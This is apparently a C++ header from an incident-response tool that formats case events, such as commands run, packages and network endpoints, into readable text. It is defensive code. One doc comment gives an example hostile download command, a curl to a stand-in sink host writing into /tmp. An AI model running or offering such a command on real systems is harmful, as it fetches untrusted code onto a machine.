// An event of a case with where it stands there, and what it says, in words.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

#include "model/generated/event.h"

namespace cordon::response {

// Where something stands.
struct Reference {
  std::uint64_t record = 0;  // of the case
  std::string path, sha256;  // the file that was taken in; empty for what Cordon recorded itself
  std::optional<std::uint64_t> line;
};

struct StoryEvent {
  model::Event event;
  Reference from;
  // The package was found by address and port: a sensor on the machine saw the same conversation with its package.
  bool by_flow = false;
};

// "curl -o /tmp/x http://sink.invalid:8000/", without the folder of the program where the arguments name it. Hostile.
std::string command_text(const model::ExecPayload& exec);

// "plain-crypto-js 4.2.1", "@scope/name 1.0.0"; the purl itself when it is none. Hostile.
std::string package_text(std::string_view purl);

// type, name and version of a purl in one spelling, without qualifiers: two of the same release are equal.
std::string release_key(std::string_view purl);

// "203.0.113.7:8000", "[2001:db8::1]:443". Hostile.
std::string endpoint_text(std::string_view address, std::uint32_t port);

}  // namespace cordon::response
